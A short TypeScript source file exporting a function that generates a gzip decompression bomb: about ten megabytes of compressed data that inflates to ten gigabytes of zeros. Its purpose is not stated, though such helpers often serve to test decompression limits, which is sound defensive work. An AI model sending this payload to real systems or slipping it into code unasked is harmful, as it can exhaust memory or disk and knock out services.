import { constants, deflateRawSync } from "node:zlib";

const CHUNK = 10_000_000;
/** Inflates to CHUNK zeros and ends at a byte, needing nothing before it: so it can be said again and again. */
const CHUNK_OF_ZEROS = deflateRawSync(Buffer.alloc(CHUNK), {
  level: 9,
  finishFlush: constants.Z_FULL_FLUSH,
});
const HEADER = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255]);

/** A gzip file of some ten megabytes that inflates to ten gigabytes of zeros: as far as gzip can go, a thousandfold. */
export function gzipBomb(): Uint8Array<ArrayBuffer> {
  const chunks = Array.from({ length: 10_000_000_000 / CHUNK }, () => CHUNK_OF_ZEROS);
  return new Uint8Array(Buffer.concat([HEADER, ...chunks, Buffer.from([3, 0]), Buffer.alloc(8)]));
}
